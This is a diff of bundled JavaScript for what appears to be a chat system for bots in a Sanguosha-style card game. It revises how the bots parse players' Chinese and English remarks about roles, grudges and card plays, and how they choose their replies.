 	const use = last.by === null || last.card === null ? null : { ...base, move: "confirm", about: last.by, words: last.card };
 	if (heard.what === "use" && use && others.length > 0) {
-		if (heard.wants === "whom") return { ...use, clause: "used_on", them: others };
+		if (heard.wants === "whom" && !heard.all) return { ...use, clause: "used_on", them: others };
 		if (heard.to.length === 0 && (last.to.length > MOST_NAMED2 || last.fact?.group))
 			return { ...use, clause: "did_use" };
 	}
@@ -40338,6 +40714,10 @@ function recordPlan(move, asked) {
 	if (told.length > 0) return { ...base, move: "confirm", clause: "tell", facts: told };
 	return use ? { ...use, clause: others.length > 0 ? "used_on" : "did_use", them: others } : { ...base, move: "unsure", clause: "not_seen" };
 }
+const isOfThese = ({ cards }, id, scene) => {
+	const card = id === void 0 ? null : factOf(scene, id)?.card ?? null;
+	return cards.length === 0 || card === null || cards.some((one) => isSame(scene, one, card));
+};
 const MOST_NAMED2 = 2;
 function toldOf({ asked, deeds }, last) {
 	const of = asked.all ? deeds.filter(({ by }, i) => deeds.findIndex((other, j) => j > i && other.by === by) < 0) : asked.what === "wuxie" ? deeds.filter(({ turn, card, to }) => turn === last.turn && card === last.card && to[0] === last.to[0]) : [last];
@@ -40438,6 +40818,16 @@ function meantBy2({ kind, to, card }, by, facts) {
 	const alike = facts.filter((fact) => fact.kind === kind && fact.by !== null && fact.by !== fact.to);
 	return alike.filter((fact) => fact.card === card && fact.by !== by && fact.over === void 0 && (to ?? fact.to) === fact.to).pop() ?? alike.filter((fact) => fact.by === by && kind === "wuxie").pop();
 }
+function chargeIn(move, asked) {
+	for (const one of asked.moves) {
+		const wrong = (one.facts ?? []).find(
+			(said) => said.verdict === "false" && said.by === asked.me && !isCounted(said) && isFlat(said, asked)
+		);
+		if (wrong && one !== move && (move.facts ?? []).length === 0 && CHARGES.has(one.act)) return { ...one, wrong };
+	}
+	return null;
+}
+const CHARGES = new Set(["ask_why", "report", "blame", "accuse"]);
 
 // src/chatter/plan/respond/called.ts
 const OUTCRY3 = /^我(?:去|靠|草|擦)(?=[\d一二三四五六七八主这那他她你,，!！])/;
@@ -40445,7 +40835,7 @@ function wantsOfLine({ text, moves, scene, from, me }) {
 	const said = text.replace(OUTCRY3, "");
 	return wantsIn(said, mentionsIn(said, { scene, from, hearer: me, he: null }), moves, { scene, from, hearer: me });
 }
-const sumOf3 = (called, ...all) => called.reduce((sum, { want, chance }) => sum + chance * Math.max(...all.map((suits) => suits[want] ?? 0)), 0);
+const sumOf2 = (called, ...all) => called.reduce((sum, { want, chance }) => sum + chance * Math.max(...all.map((suits) => suits[want] ?? 0)), 0);
 
 // src/chatter/plan/respond/fitting-weights.ts
 const WEIGHTS9 = {
@@ -41239,9 +41629,9 @@ const HEARD3 = {
 	unclear: { odd: 1 }
 };
 const SLIGHTLY = 0.35;
-const TOLD2 = 0.4;
+const TOLD3 = 0.4;
 const WHOLE4 = 1;
-const ASKED5 = 0.22;
+const ASKED6 = 0.22;
 const READ = 0.1;
 const PLAIN5 = new Set([
 	...Object.keys(GESTURE_WORDS),
@@ -41302,19 +41692,19 @@ const SLIGHT = new Set([
 ]);
 const actsOf2 = (plan, { moves }) => [...moves, ...plan.asked ? [plan.asked] : []].map(({ act }) => act);
 const tellsOf = ({ facts = [] }, { asked, told, cards }) => facts.some((fact) => told.includes(fact) || cards.some((card) => isSame(asked.scene, card, fact.card)));
-const plannedSum = (plan, { asked, called }) => sumOf3(called, ...OWNS.has(plan.clause) ? [OWNED2] : actsOf2(plan, asked).map((one) => HEARD3[one]));
+const plannedSum = (plan, { asked, called }) => sumOf2(called, ...OWNS.has(plan.clause) ? [OWNED2] : actsOf2(plan, asked).map((one) => HEARD3[one]));
 function worthOf(plan, main, grounds) {
 	const { called, told } = grounds;
 	const act = plan?.asked?.act ?? main.act;
 	if (plan === null || (plan.clause === null ? plan.move === "ack" : SLIGHT.has(plan.clause)))
-		return (sumOf3(called, HEARD3[act]) + READ) * SLIGHTLY;
+		return (sumOf2(called, HEARD3[act]) + READ) * SLIGHTLY;
 	const rights = plan.move === "correct" && (plan.asked?.facts ?? []).some(
 		({ verdict, by, to }) => verdict === "false" && by !== void 0 && to !== void 0
 	);
 	const rests = tellsOf(plan, grounds) || rights || told.length > 0 && plan.asked?.facts !== void 0;
 	const grounded = isQuestion({ act }) || DEALS.has(plan.move) || (plan.facts ?? []).length > 0 || GROUNDED.has(plan.clause);
 	const whole = PLAIN5.has(plan.clause) && (plan.clause !== "open_role" || isQuestion({ act }));
-	return plannedSum(plan, grounds) + (whole ? WHOLE4 : rests ? TOLD2 : grounded ? ASKED5 : READ);
+	return plannedSum(plan, grounds) + (whole ? WHOLE4 : rests ? TOLD3 : grounded ? ASKED6 : READ);
 }
 function isOfNamed({ about, facts = [] }, { asked, touched, seats }) {
 	const { me, from } = asked;
@@ -41335,7 +41725,7 @@ const OF_ITS_OWN3 = new Set([
 ]);
 function isAnchored(plan, move, grounds) {
 	const { asked, called, latest } = grounds;
-	if (plan === null) return move.act !== "unclear" && sumOf3(called, HEARD3[move.act]) >= PLAINLY;
+	if (plan === null) return move.act !== "unclear" && sumOf2(called, HEARD3[move.act]) >= PLAINLY;
 	if (plan.clause !== null && SLIGHT.has(plan.clause))
 		return plan.clause === "this_one" || plan.clause === "heed" && move.act === "order";
 	return PLAIN5.has(plan.clause) || GROUNDED.has(plan.clause) || OF_ITS_OWN3.has(plan.asked?.act ?? move.act) || tellsOf(plan, grounds) || isOfNamed(plan, grounds) || // What the speaker has just done is what it speaks of.
@@ -41346,9 +41736,9 @@ function isAnchored(plan, move, grounds) {
 const clauses = (...names) => new Set(names);
 const ALWAYS2 = [
 	// A number, words or a particular that was asked for.
-	clauses("quote", "hand_count", "came_of", "hit_none", "unseen_card", "no_suit", "fell_flat"),
+	clauses("quote", "hand_count", "came_of", "hit_none", "never", "unseen_card", "no_suit", "fell_flat"),
 	// Whoever has lost the thread, is back, or brings another's rude word, wants nothing else.
-	clauses("recap", "recap_begun", "recap_sides", "recap_deed", "recap_play", "welcome_back", "said_again"),
+	clauses("recap", "recap_begun", "recap_sides", "recap_deed", "recap_play", "welcome_back", "no_wait", "said_again"),
 	clauses("slandered", "abused_third"),
 	// A role that is claimed, a deal, a promise that is alleged, one's own deed of which it is asked whether it comes again.
 	clauses("claim_fits", "claim_odd", "claim_bare", "no_word", "kept_word", "again_yes", "again_no", "again_if"),
@@ -41364,29 +41754,38 @@ const ALWAYS2 = [
 		"no_surrender",
 		"left_over",
 		"unafraid",
-		"grateful"
+		"grateful",
+		"mixed",
+		"granted",
+		"maybe_so",
+		"maybe_open",
+		"regard_good",
+		"regard_bad"
 	)
 ];
 const isAlways = (clause) => ALWAYS2.some((some) => some.has(clause));
+const GESTURED = clauses("own_hand", "praised", "praised_bare");
 const TELLING2 = clauses("tell", "used_on", "used_it", "did_use", "died_amid");
 const PUT_RIGHT2 = clauses("undeserved", "undeserved_deed", "mistaken", "miscounted", "other_way", "never_but");
 const YES_OR_NO = clauses("agreed", "disagreed", "patience");
 const TURNS2 = clauses("my_turn", "not_my_turn");
 const HEAVY3 = new Set(["loss", "health", "love"]);
-const NAMES_WANTED = /(?:谁|哪个|哪位|几号).{0,10}(?:[反忠内]|可疑|嫌疑|怀疑|有问题|不像好人)|(?:怀疑|觉得|猜).{0,4}(?:谁|哪个|几号)|嫌疑|\bwho(?:'?s| is| do| are)?\b.{0,24}\b(?:rebel|reb|spy|spie|nei|turncoat|traitor|loyal\w*|trust|sus\w*|other one|last one|bad guy)s?\b/;
+const NAMES_WANTED = /(?:谁|哪个|哪位|几号).{0,10}(?:[反忠内]|可疑|嫌疑|怀疑|有问题|不像好人)|(?:怀疑|觉得|猜).{0,4}(?:谁|哪个|几号)|嫌疑|\bwho(?:'?s| is| do| are)?\b.{0,24}\b(?:rebel|reb|spy|spie|nei|turncoat|traitor|loyal\w*|trust|sus\w*|other one|last(?: one)?|third|fourth|bad guy)s?\b/;
 const LEAVES = /晚安|拜拜|再见|(?:先|我)[^,]{0,3}[撤下走溜]了?|\b(?:gn|good ?night|nite|bye|gtg|cya|see (?:you|ya))\b/;
 const BESIDE_GUESS = new Set(["ask_guess", "report"]);
-const VIEW = /(?:怎么|咋)(?:看|想)|\bwhat do (?:you|u) think\b/;
+const VIEW = /(?:怎么|咋)(?:看|想)|自己人|[朋敌]友|哪[边头伙]|信得?[过不]|\b(?:friend|(?:what|who) do (?:you|u)|still think|wh(?:ose|ich) side|reckon|make of|trust)\b/;
 const SUIT = /红桃|黑桃|方块|方片|梅花|[红黑]牌|\b(?:hearts?|spades?|clubs?|diamonds?)\b/;
 const WISHES = new Set(["order", "propose", "promise"]);
 function isWished({ asked: heard, move, about, clause }, { me, from, moves }) {
-	if (heard?.act === "ask_plan" && CHOSEN.has(clause)) return true;
+	if (heard?.act === "ask_plan" && (CHOSEN.has(clause) || INTENDED.has(clause) && !moves.some((one) => isQuestion(one) && one !== heard)))
+		return true;
 	if (heard === null || moves.some((one) => isQuestion(one) && one !== heard)) return false;
 	const third = heard.about !== void 0 && heard.about !== me && heard.about !== from;
 	if (heard.act === "ask_plan") return third && about === heard.about;
 	return WISHES.has(heard.act) && (DEALS.has(move) || move === "confirm") && (third || PEACHES.has(clause));
 }
 const CHOSEN = clauses("advise_hit", "advise_low", "advise_hold", "advise_not", "advise_wait");
+const INTENDED = clauses("will_strike", "wont_strike", "watches", "strikes_back", "plan", "bound");
 const PEACHES = clauses("peach_taken", "promise_doubt", "promise_trust");
 const isDenied = ({ move, clause, asked: heard }, asked) => move === "correct" && (PUT_RIGHT2.has(clause) || (heard?.facts ?? []).some((wrong) => isPlainlyFalse(wrong, asked)));
 const isTold8 = ({ clause, asked: move }) => TELLING2.has(clause) && move?.act === "ask_fact" && (move.facts ?? []).some(({ verdict, by, to }) => verdict === "true" && (by === void 0 || to === void 0));
@@ -41398,10 +41797,12 @@ function isDue(plan, asked) {
 	if (clause === "forgive" && takesBack(text) || move === "bye" && isOnly(moves, "bye") && LEAVES.test(text))
 		return true;
 	if (plan.found !== void 0 || clause === "idle_laid") return true;
-	if (plan.life !== void 0 || move === "count" || move === "comfort" && HEAVY3.has(topic)) return true;
+	if (plan.life !== void 0 && !plan.life.matter.startsWith("topic") || move === "count" || move === "comfort" && HEAVY3.has(topic))
+		return true;
+	if (meant && GESTURED.has(clause) && isPlainGesture(text)) return true;
 	if (isAlways(clause) || isTold8(plan) || isDenied(plan, asked)) return true;
 	if (clause === "open_role" && plan.role === "zhu" && moves.length === 1 && moves.every(isQuestion)) return true;
-	if (clause === "rule" && asksRule(text)) return true;
+	if (plan.asked?.act === "ask_rule" && (clause === "plainly" || asksOfRules(text) || asksRule(text))) return true;
 	if (plan.takesUp !== void 0 && YES_OR_NO.has(clause)) return true;
 	if (meant && isWished(plan, asked)) return true;
 	if (meant && TURNS2.has(clause) && isOnly(moves, "hurry")) return true;
@@ -41409,7 +41810,7 @@ function isDue(plan, asked) {
 	if (plan.asked?.act === "ask_guess" && plan.asked.about === from && about === from) return true;
 	const ofThird = about !== void 0 && about !== me && about !== from && plan.asked?.about === about;
 	const named = ANY_ROLE.test(text);
-	if (ofThird && named && plan.asked.act === "ask_guess" && moves.every(({ act }) => BESIDE_GUESS.has(act)))
+	if (ofThird && (named || meant && VIEW.test(text)) && plan.asked.act === "ask_guess" && moves.every(({ act }) => BESIDE_GUESS.has(act)))
 		return true;
 	if (!isOnly(moves, "ask_guess")) return false;
 	if ((move === "guess" || move === "unsure") && NAMES_WANTED.test(text)) return true;
@@ -41445,7 +41846,7 @@ function blamed(matter) {
 	const { asked } = matter;
 	if (CHALLENGES.test(asked.text) || OF_HIM.test(asked.text)) return null;
 	const { me, from, scene } = asked;
-	const deed = namedIn2(asked, (fact) => fact.by === me && fact.to !== me && fact.good !== null) ?? deedOf4(asked, (fact) => fact.by === me && fact.to === from && fact.good === false, lapOf(asked)) ?? (OF_ME.test(asked.text) || !OF_DEEDS2.test(asked.text) ? null : deedOf4(asked, (fact) => fact.by === me && isHarm(fact), lapOf(asked)));
+	const deed = namedIn3(asked, (fact) => fact.by === me && fact.to !== me && fact.good !== null) ?? deedOf4(asked, (fact) => fact.by === me && fact.to === from && fact.good === false, lapOf(asked)) ?? (OF_ME.test(asked.text) || !OF_DEEDS2.test(asked.text) ? null : deedOf4(asked, (fact) => fact.by === me && isHarm(fact), lapOf(asked)));
 	if (!deed) return usedPlan(matter.move, asked) ?? back(matter, { move: "explain", clause: "blamed", about: me });
 	if (isHelp(deed)) return back(matter, { move: "explain", clause: "kindness", about: me, facts: [deed] });
 	const place = scene.facts.indexOf(deed);
@@ -41463,7 +41864,7 @@ function blamed(matter) {
 function needled(matter) {
 	const { asked } = matter;
 	const { me } = asked;
-	const deed = namedIn2(asked, (fact) => fact.by === me && fact.to !== me);
+	const deed = namedIn3(asked, (fact) => fact.by === me && fact.to !== me);
 	if (deed && isFavour(deed)) return back(matter, { move: "explain", clause: "kindness", about: me, facts: [deed] });
 	return deed ? back(matter, { move: "tease", clause: "needled_deed", occasion: "taunt", about: me, facts: [deed] }) : back(matter, { move: "tease", clause: "needled", occasion: "taunt" });
 }
@@ -41517,8 +41918,8 @@ function lumped(matter) {
 	const { good } = forAndAgainst(asked.scene, asked.me);
 	return good.length > 0 ? back(matter, { move: "rebut", clause: "lumped", about: asked.me, facts: good.slice(0, 1) }) : back(matter, { move: "rebut", clause: "lumped_bare", about: asked.me });
 }
-const DELAYED3 = /乐(?!了|意|子|呵)|兵粮|断粮|闪电|判定|拆(?:个|一下|掉)?(?:乐|兵)|无懈|\b(?:indulgence|contentment|supply|lightning|nullif\w*|negate)\b/;
-const clearing = (matter) => DELAYED3.test(matter.asked.text) ? back(matter, { move: "bargain", clause: "clear_it", occasion: "ask_help" }) : null;
+const DELAYED4 = /乐(?!了|意|子|呵)|兵粮|断粮|闪电|判定|拆(?:个|一下|掉)?(?:乐|兵)|无懈|\b(?:indulgence|contentment|supply|lightning|nullif\w*|negate)\b/;
+const clearing = (matter) => DELAYED4.test(matter.asked.text) ? back(matter, { move: "bargain", clause: "clear_it", occasion: "ask_help" }) : null;
 const CALMS = /别(?:急|慌|气|怕|骂|喷|吵|冲动|激动|生气|着急|闹)|冷静|淡定|消消气|\b(?:calm down|chill|relax|easy)\b/;
 function bidden(matter) {
 	const { asked } = matter;
@@ -41554,7 +41955,7 @@ function plight(matter) {
 	const { asked, move } = matter;
 	const { from, me } = asked;
 	const struck = (fact) => fact.to === from && fact.by !== from && isHarm(fact);
-	const blow = OF_A_BLOW.test(asked.text) ? deedOf4(asked, struck) : namedIn2(asked, struck);
+	const blow = OF_A_BLOW.test(asked.text) ? deedOf4(asked, struck) : namedIn3(asked, struck);
 	if (blow?.by === me)
 		return { move: "confirm", clause: "retort", occasion: "ack", about: me, facts: [blow], asked: move };
 	const low = hpOf(asked, from) <= LOW3;
@@ -41704,7 +42105,7 @@ function fishy(matter) {
 	if (LEFT_UNDONE.test(asked.text) || asked.moves.some(({ act }) => act === "vouch")) return null;
 	const { me, view, scene } = asked;
 	const third = thirdIn(matter);
-	const deed = toldIn2(asked).find((fact) => isOthers(fact, asked)) ?? (third === null ? namedIn2(asked, (fact) => isOthers(fact, asked) && isOfMe(matter) && fact.by === me) : deedOf4(asked, (fact) => isOthers(fact, asked) && fact.by === third));
+	const deed = toldIn2(asked).find((fact) => isOthers(fact, asked)) ?? (third === null ? namedIn3(asked, (fact) => isOthers(fact, asked) && isOfMe(matter) && fact.by === me) : deedOf4(asked, (fact) => isOthers(fact, asked) && fact.by === third));
 	if (!deed || deed.by === null) return null;
 	if (deed.by === me)
 		return isHelp(deed) ? back3(matter, { move: "confirm", clause: "kindness", about: me, facts: [deed] }) : back3(matter, { move: "rebut", clause: "fishy_mine", about: me, facts: [deed] });
@@ -41727,7 +42128,7 @@ function admired(matter) {
 	const { me, from, scene } = asked;
 	const of = new Set(namedBy(asked).people);
 	const isOf = ({ by, to, kind }) => by !== null && by !== from && (by !== to || kind === "wuxie") && (of.size === 0 || of.has(by));
-	const deed = namedIn2(asked, isOf) ?? deedOf4(
+	const deed = namedIn3(asked, isOf) ?? deedOf4(
 		asked,
 		(fact) => isOf(fact) && (of.size > 0 || fact.by === scene.turnOf),
 		of.size > 0 ? lapOf(asked) : void 0
@@ -41748,7 +42149,7 @@ function mocked(matter) {
 	const { asked } = matter;
 	const { me, from } = asked;
 	const third = thirdIn(matter);
-	const deed = namedIn2(asked, ({ by }) => by !== from) ?? deedOf4(asked, ({ by, to }) => by !== from && third !== null && (by === third || to === third));
+	const deed = namedIn3(asked, ({ by }) => by !== from) ?? deedOf4(asked, ({ by, to }) => by !== from && third !== null && (by === third || to === third));
 	if (!deed) return inTone(matter);
 	if (deed.to === me) return back3(matter, { move: "tease", clause: "laugh_mine", facts: [deed] });
 	if (deed.by === me && isFavour(deed))
@@ -41782,7 +42183,7 @@ function pitied(matter) {
 	if (blow) return back3(matter, { move: "confirm", clause: "pity", about: whom, facts: [blow] });
 	return seatOf(scene, whom)?.alive === true ? back3(matter, { move: "confirm", clause: "pity_state", about: whom }) : fallen(matter);
 }
-const OF_HAND = /手牌|手里|[张囤屯攒憋留]|空城|光板|牌(?!堆)|\b(?:cards?|hand|hoard\w*|empty)\b/;
+const OF_HAND2 = /手牌|手里|[张囤屯攒憋留]|空城|光板|牌(?!堆)|\b(?:cards?|hand|hoard\w*|empty)\b/;
 const OF_HP = /血|[\d一两二三四五六][滴格点]|残|满|\b(?:hp|health|low|full|hearts?|life|alive|dying)\b/;
 const ENDS2 = /收(?:了|掉)(?:他|她|吧)|送走|上啊|干掉|一刀|\b(?:end it|finish|one (?:more )?(?:slash|hit))\b/;
 function standing4(matter) {
@@ -41794,9 +42195,9 @@ function standing4(matter) {
 	const whom = third ?? (isOfMe(matter) ? me : null);
 	if (whom === null || whom === from) return null;
 	if (seatOf(scene, whom)?.alive !== true) return fallen(matter);
-	if (OF_HAND.test(text) && !OF_HP.test(text) && isEmptyHanded(scene, whom))
+	if (OF_HAND2.test(text) && !OF_HP.test(text) && isEmptyHanded(scene, whom))
 		return back3(matter, { move: "confirm", clause: "no_cards", about: whom });
-	if (OF_HAND.test(text) && !OF_HP.test(text))
+	if (OF_HAND2.test(text) && !OF_HP.test(text))
 		return whom === me ? back3(matter, { move: "ack", clause: "mine_cards", about: me }) : back3(matter, { move: "confirm", clause: "their_cards", about: whom });
 	if (!OF_HP.test(text)) return null;
 	return back3(matter, { move: whom === me ? "ack" : "confirm", clause: healthClause(asked, whom), about: whom });
@@ -41824,44 +42225,11 @@ function mistaken(matter) {
 	return back3(matter, { move: "ack", clause: foreseen ? "foreseen" : "hid_well", ...open });
 }
 
-// src/chatter/plan/particulars.ts
-const WHICH_CARD = /(?:什么|啥)牌|哪一?张|\b(?:what|which) card\b/;
-const SUDDENLY = /(?:咋|怎么)(?:就|又|突然|忽然)|突然|\bhow come\b|\bhow did .{1,24} start\b/;
-const IN_VAIN = /没(?:有)?(?:烧|打|砍|射|拆|顺|乐|中|劈|起作用|成)|落空|\b(?:miss(?:ed)?|fail(?:ed)?|didn'?t (?:work|hit|land|burn|do anything))\b/;
-const LOST4 = new Set(["steal", "discard"]);
-const SHOWS = new Set(["sha", "juedou", "huogong", "guohe", "shunshou"]);
-function particularsOf(first, move, asked) {
-	const { scene, text, me } = asked;
-	const { by, to, card, kind, turn } = first;
-	if (by === null || !isQuestion(move)) return null;
-	const told = {
-		move: "confirm",
-		occasion: "point_at",
-		...by === me ? {} : { about: by },
-		facts: [first],
-		asked: move,
-		...taking(move)
-	};
-	const inTurn = scene.facts.filter((fact) => fact.turn === turn);
-	const aimed = inTurn.filter((fact) => fact.kind === "aimed" && fact.card === card).pop();
-	const hits = inTurn.filter((fact) => fact.kind === "hit" && fact.card === card && fact.to !== null);
-	if (LOST4.has(kind) && card === null && WHICH_CARD.test(text)) return { ...told, clause: "unseen_card" };
-	if (kind === "hit" && aimed && SUDDENLY.test(text))
-		return { ...told, clause: "came_of", facts: [aimed], ...aimed.by === null ? {} : { about: aimed.by } };
-	if (kind !== "aimed" || !SHOWS.has(card ?? "") || !IN_VAIN.test(text)) return null;
-	const came = hits.some((hit) => hit.to === to || hit.to === by) || inTurn.some((fact) => fact.by === by && fact.to === to && LOST4.has(fact.kind));
-	const blocked = inTurn.find((fact) => fact.kind === "wuxie" && fact.to === to && fact.card === card);
-	if (came) return null;
-	return {
-		...told,
-		clause: blocked ? "came_of" : card === "huogong" ? "no_suit" : "fell_flat",
-		facts: [blocked ?? first]
-	};
-}
-
 // src/chatter/plan/why.ts
 const NOT_DONE = /[还都怎咋]么?(?:还|都)?不(?:来|去|敢|肯)?(?:打|砍|杀|拆|动)/;
 const NOT_ME = /(?:不|没)[\u4e00-\u9fff]{0,4}我|\b(?:not|n'?t|never)\b/;
+const OF_GRUDGE = /仇|恨|过节|得罪|\b(?:grudge|beef)\b/;
+const OF_ASKER = /我(?!们)|\bme\b/;
 function notAsker(move, asked) {
 	const { scene, view, from } = asked;
 	const role = seatOf(scene, from)?.revealed;
@@ -41906,10 +42274,14 @@ function whyPlan(move, asked) {
 		return done ? ownAct(done, move, asked) : denial({ ...named, by: me }, move, asked);
 	}
 	if (move.about === me && move.role === void 0) {
-		const [grudge] = [...namedBy(asked).people].flatMap(
-			(seat) => seat === from ? [] : between(scene, me, seat, isHarm)
-		);
+		const onAsker = OF_ASKER.test(asked.text) ? between(scene, me, from, isHarm)[0] : void 0;
+		if (onAsker) return ownAct(onAsker, move, asked);
+		const others = [...namedBy(asked).people].filter((seat) => seat !== from && seat !== me);
+		const [grudge] = others.flatMap((seat) => between(scene, me, seat, isHarm));
 		if (grudge) return ownAct(grudge, move, asked);
+		const [theirs] = others.flatMap((seat) => between(scene, seat, me, isHarm));
+		if (theirs && OF_GRUDGE.test(asked.text))
+			return { move: "explain", clause: "explain", occasion: "ask_why", facts: [theirs], asked: move, ...taking(move) };
 	}
 	const about = move.about ?? exchange?.answered.about;
 	const role = exchange?.answered.role ?? move.role ?? (about === void 0 ? void 0 : memory.judged(me, about)?.role);
@@ -42273,7 +42645,7 @@ const HEARD_SO = 0.6;
 const MOOD2 = "mood";
 const FALLBACK2 = 0.02;
 const LEAST6 = 0.03;
-const MOST4 = 6;
+const MOST5 = 6;
 function offersFor(plan, move, asked) {
 	const grounds = groundsOf(asked);
 	const planned = {
@@ -42283,16 +42655,16 @@ function offersFor(plan, move, asked) {
 		worth: worthOf(plan, move, grounds),
 		known: isAnchored(plan, move, grounds)
 	};
-	const more = OWNS.has(plan?.clause ?? null) ? TOLD2 : 0;
+	const more = OWNS.has(plan?.clause ?? null) ? TOLD3 : 0;
 	const others = ROWS7.map((row) => {
-		const sum = sumOf3(grounds.called, row.suits);
+		const sum = sumOf2(grounds.called, row.suits);
 		const known = row.heard?.test(asked.text) ?? false;
 		const worth = Math.max(sum + (known ? HEARD_SO : 0), row.way === MOOD2 ? FALLBACK2 : 0);
 		return { row, sum, known, worth };
 	}).filter(({ row, worth }) => worth >= LEAST6 || row.way === MOOD2).sort((a, b) => b.worth - a.worth);
 	const found = [planned];
 	for (const { row, sum, known, worth } of others) {
-		if (found.filter((one) => one.worth >= worth + more).length >= MOST4) break;
+		if (found.filter((one) => one.worth >= worth + more).length >= MOST5) break;
 		const back = row.respond({ asked, move });
 		if (back && keepsTo(back, move, asked))
 			found.push({
@@ -42303,7 +42675,7 @@ function offersFor(plan, move, asked) {
 				worth: worth + (more > 0 && tellsOf(back, grounds) ? more : 0)
 			});
 	}
-	const best = found.sort((a, b) => b.worth - a.worth).slice(0, MOST4);
+	const best = found.sort((a, b) => b.worth - a.worth).slice(0, MOST5);
 	const most = best[0]?.worth ?? 0;
 	return best.map((one) => ({
 		way: one.way,
@@ -42321,129 +42693,6 @@ function responseTo(plan, main, asked) {
 	const offers = offersFor(plan, move, asked);
 	const choice = asked.choose?.(offers) ?? foremost2(offers);
 	return choice && { plan: choice.plan, fitness: fitnessOf(choice) };
-}
-
-// src/chatter/plan/inquiry.ts
-function doneTo(about, { text, scene, from, me }) {
-	const named = mentionsIn(text, { scene, from, hearer: me, he: null }).filter(
-		({ seat, called }) => seat !== null && seat !== about && !called
-	);
-	const [whom] = named;
-	return named.length === 1 && whom && DONE_TO.test(text.slice(0, whom.start)) ? whom.seat : null;
-}
-function eventsOf(when, scene) {
-	const then = scene.facts.filter((fact) => fact.by !== null && isThen(when ?? { which: "last_round" }, fact, scene));
-	const rank = ["death", "reveal", "rescue", "hit", "heal", "wuxie", "steal", "discard", "aimed"];
-	const weightiest = then.filter(({ kind, by, to }) => rank.includes(kind) && by !== to).sort((a, b) => rank.indexOf(a.kind) - rank.indexOf(b.kind)).slice(0, MOST_TOLD2);
-	return then.filter((fact) => weightiest.includes(fact));
-}
-const LAST_WORDS = /(?<![还好可没再])(?:说|讲|喊)(?:过|了)?(?:什么|啥)|说(?:了|过)(?:哪些|几句)|遗言|\bwhat did .{1,20} say\b|last words/;
-const CHALLENGE = /(?:还有|有)(?:什么|啥|何)(?:话|好|可)(?:说|讲|解释|狡辩)|怎么解释|\bwhat do you have to say\b|\bexplain yourself\b/;
-const WHO_USED = /(?:谁|哪个|哪位|几号).{0,4}(?:放|开|用|丢|甩|出|使)|\bwho(?:ever)? (?:played|used|cast|dropped|did)\b/;
-const ASKS_WHOM = /(?<!^)谁|哪[几两些]?个|几号|\bwhom?\b/;
-function factPlan(move, asked) {
-	const { scene, me, lastWords, text } = asked;
-	const { facts = [] } = move;
-	const spoke = LAST_WORDS.test(text);
-	const about = move.about ?? (spoke ? facts[0]?.to : void 0);
-	const dead = about !== void 0 && seatOf(scene, about)?.alive === false;
-	const when = whenIn(text);
-	if (about === me && CHALLENGE.test(text)) return rebuttal(move, asked);
-	if (spoke && /遗言|last words/.test(text) && seatOf(scene, about ?? me)?.alive === true)
-		return { move: "deflect", clause: "hold_on", occasion: "ack", about: about ?? me, asked: move };
-	if (about !== void 0 && about !== asked.from && (spoke || dead && facts.length === 0 && !DEEDS_ASKED.test(text))) {
-		const words = lastWords(about);
-		return words === null ? { move: "unsure", clause: "forgot", occasion: "ack", about, asked: move, ...taking(move) } : { move: "confirm", clause: "quote", occasion: "ack", about, words, asked: move, ...taking(move) };
-	}
-	const now = LEFT3.test(text) ? standerIn(asked) : null;
-	if (STANDS.test(text) && seatOf(scene, now ?? about ?? me)?.alive === true && (now !== null || !facts.some(({ verdict }) => verdict === "true")))
-		return {
-			move: "confirm",
-			clause: "stands",
-			occasion: "ack",
-			about: now ?? about ?? me,
-			asked: move,
-			...taking(move)
-		};
-	const known = factsIn(move, asked);
-	const told = { move: "confirm", clause: "tell", occasion: "point_at", asked: move };
-	if (known.length > 0) {
-		const [first] = known;
-		const [said] = facts;
-		const [latest] = [...scene.uses].reverse().filter(({ name, turn }) => name === said?.card && (when === null || turn === first?.turn));
-		if (WHO_USED.test(text) && first?.group && said && said.by === void 0 && said.to === void 0 && first.by !== null && first.card !== null)
-			return usePlan(latest ?? { by: first.by, name: first.card }, move, asked);
-		const particulars = first && said ? particularsOf(first, move, asked) : null;
-		if (particulars) return particulars;
-		const who = first && first.by !== null && first.by !== me ? { about: first.by } : {};
-		const open = facts.some(({ by, to }) => by === void 0 || to === void 0);
-		const own = first?.by === me ? ownClause(first) : "confirm";
-		const [one] = known;
-		const amid = one?.kind === "death" && one.by === null ? diedAmid(one, scene) : null;
-		if (amid) return { ...told, clause: "died_amid", about: amid.by, words: amid.name };
-		const all2 = first && said?.by !== void 0 && said.to === void 0 && ASKS_WHOM.test(text) ? alike3(first, scene) : [];
-		return { ...told, clause: open ? "tell" : own, ...who, facts: all2.length > 1 ? all2 : known.slice(0, 2) };
-	}
-	const used = facts.find(({ verdict, card }) => verdict === "true" && card !== void 0);
-	const use = used && [...scene.uses].reverse().find(({ name, turn, by }) => name === used.card && turn === (used.turn ?? turn) && by !== used.to);
-	const others = use?.to.filter((seat) => seat !== use.by) ?? [];
-	if (used?.by !== void 0 && used.to === void 0 && use && others.length > 0 && ASKS_WHOM.test(text))
-		return { ...told, clause: "used_on", about: use.by, words: use.name, them: others };
-	if (used && use) return usePlan(use, move, asked);
-	const befell = facts.length === 0 && ASKS_WHOM.test(text) ? befallenBy(text, scene) : [];
-	const [hit] = befell;
-	const all = hit ? particularsOf(hit, move, asked) : null;
-	if (hit) return all ?? { ...told, facts: befell };
-	const [vain] = cardsIn(text).filter(({ card }) => FOR_ALL.has(card) && scene.uses.some(({ name }) => name === card));
-	if (vain && facts.length === 0 && ASKS_WHOM.test(text)) return { ...told, clause: "hit_none", words: vain.card };
-	const lost = facts.length === 0 ? lostIn(text, scene) : null;
-	if (lost) return { ...told, ...lost.by === null || lost.by === me ? {} : { about: lost.by }, facts: [lost] };
-	const wrong = facts.find(({ verdict }) => verdict === "false");
-	if (wrong && wrong.by === void 0 && wrong.less === void 0) {
-		const near = scene.facts.filter(
-			(fact) => fact.to === wrong.to && fact.by !== null && fact.by !== fact.to && isAkin(wrong, fact) && (when === null || isThen(when, fact, scene))
-		);
-		if (near.length === 0 && !isExcluded(wrong, asked)) return { ...told, move: "unsure", clause: "unknown_fact" };
-		return { ...told, move: "correct", clause: near.length > 0 ? "as_seen" : "nobody", facts: near.slice(-1) };
-	}
-	if (wrong) return denial(wrong, move, asked);
-	const hand = handPlan(move, asked);
-	if (hand) return hand;
-	if (about !== void 0) {
-		const whom = doneTo(about, asked);
-		const done = deedsOf(about, when, scene, whom);
-		if (done.length > 0) return { ...told, about, facts: done };
-		const earlier = whom === null ? [] : deedsOf(about, null, scene, whom);
-		if (earlier.length > 0) return { ...told, clause: "as_seen", about, facts: earlier.slice(-1) };
